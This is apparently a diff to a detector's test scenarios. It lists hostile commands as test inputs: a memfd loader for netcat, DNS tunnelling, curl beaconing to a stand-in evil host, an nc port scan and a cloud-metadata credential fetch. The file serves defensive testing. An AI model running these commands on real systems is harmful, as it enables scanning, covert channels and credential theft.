@@ -22,7 +22,7 @@ from tests.support.scenarios.scenario import (
     Scenario,
 )
 from tests.support.scenarios.shells import SHELLS
-from tests.support.scenarios.world import API, EVIL, EVIL_NAME, METADATA, PARTNER, PEER
+from tests.support.scenarios.world import API, EVERYDAY, EVIL, EVIL_NAME, METADATA, PEER
 
 _MEMFD = (
     "import os;f=os.memfd_create('k');os.write(f,open('/usr/bin/nc','rb').read());"
@@ -128,13 +128,13 @@ _BY_COUNTING: Final = (
     Scenario("tunnel through DNS", "entry", f'python3 -c "{_TUNNEL}"', (TUNNEL,)),
     Scenario("tunnel in long names", "entry", f'python3 -c "{_LONG_NAMES}"', (TUNNEL,)),
     Scenario("tunnel in odd records", "entry", f'python3 -c "{_ODD_NAMES}"', (TUNNEL,)),
-    Scenario("beacon", "entry", f'exec python3 -c "{_BEACON}"', (BEACON,), slower=1200),
-    Scenario("beacon in turns", "entry", f'exec python3 -c "{_TURNS}"', (BEACON,), slower=1200),
+    Scenario("beacon", "entry", f'exec python3 -c "{_BEACON}"', (BEACON,), slower=1800),
+    Scenario("beacon in turns", "entry", f'exec python3 -c "{_TURNS}"', (BEACON,), slower=2900),
     Scenario(
         "beacon of a script", "entry",
-        f"for n in $(seq 110); do curl -s http://{EVIL_NAME}/o; sleep 0.02; done", (BEACON,), ("curl",), slower=2400,
+        f"for n in $(seq 110); do curl -s http://{EVIL_NAME}/o; sleep 0.02; done", (BEACON,), ("curl",), slower=4800,
     ),
-    Scenario("port scan", "python", f"for p in $(seq 1 40); do nc -z -w1 {PEER} $p; done", (SCAN, RCE), ("nc",)),
+    Scenario("port scan", "python", f"for p in $(seq 1 40); do nc -z -w1 {PEER} $p; done", (SCAN, RCE), ("nc",), beside=(LATERAL,)),
     Scenario("sweep of hosts", "entry", f'exec python3 -c "{_SWEEP}"', (SCAN,)),
     Scenario("scan with datagrams", "entry", f'exec python3 -c "{_DATAGRAMS}"', (SCAN,)),
 )  # fmt: skip
@@ -164,12 +164,12 @@ _BY_PLACE: Final = (
 # No shell and no tool: the service itself is had go elsewhere, once it is known what it does.
 _BY_LEARNING: Final = (
     Scenario(
-        "a service goes where it never went", "python fetch", " ".join([*[f"http://{PARTNER}/"] * 80, f"http://{EVIL_NAME}/"]),
-        (DRIFT,), slower=18_000,
+        "a service goes where it never went", "python fetch", " ".join([*EVERYDAY, f"http://{EVIL_NAME}/"]),
+        (DRIFT,), slower=9000,
     ),
     Scenario(
-        "a service asks the cloud for credentials", "python fetch", " ".join([*[f"http://{PARTNER}/"] * 80, f"http://{METADATA}/"]),
-        (DRIFT, CLOUD), slower=18_000,
+        "a service asks the cloud for credentials", "python fetch", " ".join([*EVERYDAY, f"http://{METADATA}/"]),
+        (DRIFT, CLOUD), slower=9000,
     ),
 )  # fmt: skip
 
